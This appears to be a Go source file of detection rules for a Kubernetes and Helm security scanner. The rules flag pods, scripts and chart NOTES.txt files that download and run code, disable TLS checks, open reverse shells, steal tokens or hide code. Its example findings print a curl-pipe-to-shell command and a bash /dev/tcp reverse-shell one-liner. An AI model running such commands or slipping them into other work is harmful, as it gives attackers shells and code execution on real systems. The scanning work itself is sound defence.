package rules

// Sentences that several rules in this file share.
const (
	whyAttack   = "Attackers use such commands to get shells, credentials, and access outside the container; honest programs rarely need them."
	whyHidden   = "A reader of the manifest cannot see what runs."
	switchesOff = "switches off security checks when it starts"
	askForCode  = "Ask the publisher for the code as plain text in the image."
)

// The rules about suspicious code: in the commands of pods, and in texts that pods may
// run.
var (
	PodRemoteCode = row(Rule{
		Name: "pod-remote-code", Ref: "POD-19", Level: Medium, Title: "fetches code or switches off checks when it starts",
		Why: "Code that is downloaded at the start was not reviewed, and switched-off checks leave the container's connections unprotected.",
		Cases: []Case{
			{For: "downloads ", Title: "downloads code when it starts", Why: "Code that is downloaded at the start of a container is not part of this review."},
			{For: "passes ", Title: switchesOff, Why: "Without TLS verification or authentication, an attacker can pose as the other side of a connection."},
			{For: "skips ", Title: switchesOff, Why: "Without TLS verification or signatures, an attacker can pose as the other side of a connection."},
		},
		Reduce: dropIt,
		Looks:  "Commands, arguments, probes, hooks and variables that download and run programs, install packages, clone repositories or apply manifests, in any spelling; arguments that switch off authentication or TLS checks. Requests to the pod itself and to Services are left out.",
	})
	PodHostileCode = row(Rule{
		Name: "pod-hostile-code", Ref: "POD-19", Level: High, Title: "runs commands that reach beyond the container",
		Why:    whyAttack,
		Reduce: "Ask the publisher what the command is for.",
		Looks:  "Commands, arguments, probes, hooks and variables: reverse shells and tunnels, metadata services, the account's token, kubectl on permissions and Secrets, nsenter and chroot, kernel and disks of the node, cron and login files, set-user-ID bits, miners, files sent away, logs and policies switched off.",
	})
	PodHiddenCode = row(Rule{
		Name: "pod-hidden-code", Ref: "POD-19", Level: High, Title: "runs hidden code",
		Why:    whyHidden,
		Reduce: askForCode,
		Looks:  "Commands, arguments, probes, hooks and variables: code that is decoded and run, programs in base64, words assembled from quotes, escapes and variables, characters that change the order of others or have no width, look-alike letters, code far to the right or far below.",
	})
	ScriptRemoteCode = row(Rule{
		Name: "script-remote-code", Level: Medium, Title: "has a script that fetches code or switches off checks",
		Why:    "Code that a script downloads is not part of this review, and switched-off checks leave its connections unprotected.",
		Reduce: dropIt,
		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, whether a pod mounts them or not. Signs that honest documentation also has count only in scripts.",
	})
	ScriptHostileCode = row(Rule{
		Name: "script-hostile-code", Level: High, Title: "has a script that attacks the host or other machines",
		Why:    whyAttack,
		Reduce: "Ask the publisher what the script is for.",
		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, for what pod-hostile-code finds in commands. Content of Secrets is never shown.",
	})
	ScriptHiddenCode = row(Rule{
		Name: "script-hidden-code", Level: High, Title: "contains hidden code",
		Why:    whyHidden,
		Reduce: askForCode,
		Looks:  "Texts and binary data in ConfigMaps, Secrets, annotations and custom resources, for what pod-hidden-code finds in commands, and programs among them.",
	})
	NotesRemoteCode = row(Rule{
		Name: "notes-remote-code", Level: Medium, Title: "prints notes with commands that fetch code or switch off checks",
		Why:     "Helm prints the notes after an install, and a user who follows them runs unreviewed code with their own permissions.",
		Reduce:  "Do not run the command; ask the publisher for the code as part of the package.",
		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-remote-code finds in commands. This program does not print them.",
		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: downloads into a shell: curl https://get.example.com | sh"},
	})
	NotesHostileCode = row(Rule{
		Name: "notes-hostile-code", Level: High, Title: "prints notes with suspicious commands",
		Why:     "Helm prints the notes after an install, and a user who follows them runs the commands with their own permissions.",
		Reduce:  "Do not run the command; ask the publisher what it is for.",
		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hostile-code finds in commands. This program does not print them.",
		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: opens a reverse shell to another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
	})
	NotesHiddenCode = row(Rule{
		Name: "notes-hidden-code", Level: High, Title: "prints notes with hidden content",
		Why:     "Helm prints the notes after an install: the commands that a user copies differ from the ones on the screen, or the terminal obeys hidden characters.",
		Reduce:  "Do not copy from the notes; ask the publisher for plain text.",
		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hidden-code finds in commands, and for control characters of terminals. This program does not print them.",
		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: has characters that change the order of others: echo <U+202E>"},
	})
)
